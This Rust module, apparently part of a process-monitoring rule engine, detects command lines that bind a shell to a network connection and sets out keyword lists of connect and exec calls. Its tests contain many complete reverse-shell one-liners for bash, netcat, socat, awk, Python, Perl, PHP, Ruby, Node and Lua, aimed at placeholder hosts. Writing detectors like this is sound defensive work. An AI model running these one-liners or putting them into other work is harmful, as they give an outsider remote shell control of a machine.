//! Command lines that bind a shell to a connection.

use std::fmt;

use super::{
    command::{Command, is_shell, mentions_shell, program_name},
    redact::is_host,
    script::{Stage, pipelines},
};

/// How a command line binds a shell to a connection.
#[derive(Debug, PartialEq)]
pub(super) enum Shape<'a> {
    /// A shell opens the connection itself, to a host and port where they can be told.
    Device(Option<(&'a str, &'a str)>),
    /// Netcat starts a shell.
    Executed,
    /// A one-liner of an interpreter connects and starts a shell.
    OneLiner(&'a str),
    /// A pipeline connects a shell and a program for connections.
    Piped(&'a str),
    /// Socat joins a connection and a shell.
    Socat,
}

impl fmt::Display for Shape<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Device(Some((host, port))) => write!(f, "shell on /dev/tcp to {host} port {port}"),
            Self::Device(None) => f.write_str("shell on /dev/tcp"),
            Self::Executed => f.write_str("told to run a shell for its connection"),
            Self::OneLiner(name) => write!(f, "{name} one-liner that connects and runs a shell"),
            Self::Piped(name) => write!(f, "shell in a pipeline with {name}"),
            Self::Socat => f.write_str("joins a connection and a shell"),
        }
    }
}

/// Finds out whether, and how, a command line binds a shell to a connection.
pub(super) fn shape(command: Command<'_>) -> Option<Shape<'_>> {
    match command.name {
        name if NETCATS.contains(&name) => executes_shell(command).then_some(Shape::Executed),
        "socat" => joins_shell(command).then_some(Shape::Socat),
        name if INTERPRETERS.contains(&name) => {
            command.arguments().any(connects_shell).then_some(Shape::OneLiner(name))
        }
        _ => command.script().and_then(in_script),
    }
}

/// Looks for `-e /bin/sh` and its kin, also within a cluster of options.
fn executes_shell(command: Command<'_>) -> bool {
    let mut is_next = false;
    command.arguments().any(|argument| {
        let runs = |text: &str| text.split_whitespace().next().is_some_and(|word| is_shell(program_name(word)));
        let option = argument.strip_prefix('-').unwrap_or_default();
        let (name, value) = option.split_once('=').unwrap_or((option, ""));
        let attached = option.strip_prefix(['e', 'c']).unwrap_or(value);
        let is_long = matches!(name, "-exec" | "-sh-exec");
        let hit = is_next && runs(argument) || runs(attached) && (is_long || !option.starts_with('-'));
        is_next = is_long || !option.starts_with('-') && option.ends_with(['e', 'c']);
        hit
    })
}

fn joins_shell(command: Command<'_>) -> bool {
    let starts = |argument: &str, kinds: &[&str]| {
        let kind = argument.split([':', '-']).next().unwrap_or_default();
        kinds.iter().any(|known| kind.trim_end_matches(['4', '6']).eq_ignore_ascii_case(known))
    };
    command.arguments().any(|argument| starts(argument, &["exec", "system"]) && mentions_shell(argument))
        && command.arguments().any(|argument| starts(argument, &["tcp", "openssl", "ssl", "udp", "sctp"]))
}

/// Looks for code that connects, hands descriptors or commands on, and names a shell.
fn connects_shell(code: &str) -> bool {
    // Short arguments are options and names of files.
    if code.len() < 30 {
        return false;
    }
    let code = code.to_ascii_lowercase();
    let has = |needles: &[&str]| needles.iter().any(|needle| code.contains(needle));
    has(CONNECTS) && has(RUNS) && mentions_shell(&code) || code.contains("/inet/tcp/") && code.contains("getline")
}

fn in_script(script: &str) -> Option<Shape<'_>> {
    let device = DEVICES.iter().find_map(|device| script.split_once(device));
    let pipelines = pipelines(script);
    if let Some((_, target)) = device
        && binds_device(script, &pipelines)
    {
        return Some(Shape::Device(host_and_port(target)));
    }
    pipelines.iter().find_map(|pipeline| {
        let connects = pipeline.iter().find(|stage| is_connecting(**stage))?;
        let is_bound =
            pipeline.iter().any(|stage| stage.is_interactive_shell() || is_shell(stage.name) && stage.runs_its_input());
        is_bound.then_some(Shape::Piped(connects.name))
    })
}

/// Tells a shell on a connection from a script that only waits for a port or asks for a page.
fn binds_device(script: &str, pipelines: &[Vec<Stage<'_>>]) -> bool {
    let is_loop = script.contains("while read") && (script.contains("do $") || script.contains("eval"));
    script.contains("0>&1") || is_loop || pipelines.iter().flatten().any(|stage| stage.is_interactive_shell())
}

fn is_connecting(stage: Stage<'_>) -> bool {
    NETCATS.contains(&stage.name)
        || matches!(stage.name, "socat" | "telnet")
        || stage.name == "openssl" && stage.rest.contains("s_client")
}

fn host_and_port(target: &str) -> Option<(&str, &str)> {
    let (host, rest) = target.split_once('/')?;
    let port = rest.get(..rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len()))?;
    (is_host(host) && (1..=5).contains(&port.len())).then_some((host, port))
}

const DEVICES: &[&str] = &["/dev/tcp/", "/dev/udp/"];
const NETCATS: &[&str] = &["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat"];
const INTERPRETERS: &[&str] =
    &["awk", "gawk", "lua", "mawk", "node", "nodejs", "perl", "php", "python", "ruby", "tclsh"];
const CONNECTS: &[&str] = &[
    "connect(",
    "createconnection(",
    "create_connection(",
    "fsockopen",
    "io::socket",
    "pfsockopen",
    "stream_socket_client",
    "tcpsocket",
    "socket.tcp",
];
const RUNS: &[&str] = &[
    "child_process",
    "dup2(",
    "exec \"",
    "exec '",
    "exec sprintf",
    "exec(",
    "exec{",
    "os.execute",
    "os.system",
    "passthru(",
    "popen",
    "proc_open",
    "pty.spawn",
    "spawn(",
    "stdin->fdopen",
    "subprocess.",
    "system(",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{exec, found_in_start, is_only};

    fn found(line: &[&str]) -> Vec<(String, String)> {
        found_in_start(&format!("/usr/bin/{}", line[0]), line)
    }

    #[test]
    fn shells_on_a_connection_are_found() {
        for line in [
            &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"][..],
            &["bash", "-c", "0<&196;exec 196<>/dev/tcp/192.0.2.9/443; sh <&196 >&196 2>&196"],
            &["bash", "-c", "exec 5<>/dev/tcp/192.0.2.9/443;cat <&5 | while read line; do $line 2>&5 >&5; done"],
            &["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.9 443 >/tmp/f"],
            &["sh", "-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s"],
            &["sh", "-c", "telnet 192.0.2.9 4444 | /bin/bash | telnet 192.0.2.9 4445"],
            &["nc", "-e", "/bin/sh", "192.0.2.9", "443"],
            &["nc.traditional", "-lvpe", "443", "-e/bin/bash"],
            &["ncat", "--ssl", "--exec", "/bin/bash -i", "192.0.2.9", "443"],
            &["ncat", "192.0.2.9", "443", "--sh-exec=bash"],
            &["netcat", "192.0.2.9", "443", "-c", "/bin/sh"],
            &["busybox", "nc", "192.0.2.9", "443", "-e", "sh"],
            &["socat", "TCP:192.0.2.9:443", "EXEC:'bash -li',pty,stderr"],
            &["socat", "OPENSSL-LISTEN:443,fork", "SYSTEM:/bin/sh"],
            &[
                "awk",
                "BEGIN{s=\"/inet/tcp/0/192.0.2.9/443\";while(1){do{s|&getline c;while((c|&getline)>0)print|&s}while(1)}}",
            ],
        ] {
            assert!(is_only(&found(line), "reverse_shell"), "{line:?} {:?}", found(line));
        }
    }

    #[test]
    fn one_liners_that_connect_a_shell_are_found() {
        for line in [
            &[
                "python3",
                "-c",
                "import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.9\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
            ][..],
            &[
                "python2.7",
                "-c",
                "import socket,subprocess;s=socket.socket();s.connect(('h',1));subprocess.call(['/bin/sh','-i'])",
            ],
            &[
                "perl",
                "-e",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,inet_aton(\"h\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
            ],
            &["php8.2", "-r", "$sock=fsockopen(\"192.0.2.9\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");"],
            &[
                "ruby",
                "-rsocket",
                "-e",
                "f=TCPSocket.open(\"192.0.2.9\",443).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
            ],
            &["node", "-e", "require('net').connect(443,'h',function(){require('child_process').spawn('sh',[])})"],
            &[
                "lua5.4",
                "-e",
                "require('socket');require('os');t=socket.tcp();t:connect('h','443');os.execute('/bin/sh -i <&3 >&3 2>&3');",
            ],
        ] {
            assert!(is_only(&found(line), "reverse_shell"), "{line:?}");
        }
    }

    #[test]
    fn what_only_looks_like_it_is_passed_over() {
        for line in [
            &["bash", "-c", "echo > /dev/tcp/db/5432"][..],
            &["bash", "-c", "exec 3<>/dev/tcp/h/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3"],
            &["bash", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"],
            &["bash", "-i"],
            &["sh", "-c", "echo stats | nc localhost 11211"],
            &["sh", "-c", "nc -l 9000 | tar x"],
            &["sh", "-c", "tar c . | openssl s_client -connect h:443; sh build.sh"],
            &["nc", "-zv", "db", "5432"],
            &["nc", "-c", "mail.example.com", "443"],
            &["nc", "-e"],
            &["ncat", "--exec", "/usr/bin/date", "-l", "13"],
            &["socat", "TCP-LISTEN:80,fork", "TCP:192.0.2.9:80"],
            &["socat", "-", "EXEC:/bin/sh"],
            &["socat", "TCP:192.0.2.9:80", "EXEC:date"],
            &["socat", "TCP-LISTEN:80,fork", "EXEC:/opt/handler.sh"],
            &["python3", "-c", "import socket; socket.create_connection(('db', 5432))"],
            &["python3", "-c", "import subprocess, socket; subprocess.run(['sh', 'x']); print(socket.gethostname())"],
            &["perl", "-e", "exec(\"/bin/sh\", \"-c\", \"make install of something long\")"],
            &["python3", "server.py", "connect(", "exec(", "sh"],
            &["awk", "{ while ((getline line < file) > 0) print line }"],
        ] {
            assert_eq!(found(line), [], "{line:?}");
        }
    }

    #[test]
    fn evidence_names_the_other_side_and_nothing_else() {
        let of = |script: &str| found(&["bash", "-c", script])[0].1.clone();

        assert_eq!(
            of("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 # hunter2"),
            "shell on /dev/tcp to 192.0.2.9 port 4444: /usr/bin/bash"
        );
        assert_eq!(of("bash -i >& /dev/tcp/$HOST/hunter2 0>&1"), "shell on /dev/tcp: /usr/bin/bash");
        let line = ["sh", "-c", "nc h 1 | sh"];
        assert_eq!(shape(Command::of(&exec("/bin/sh", &line))), Some(Shape::Piped("nc")));
    }
}
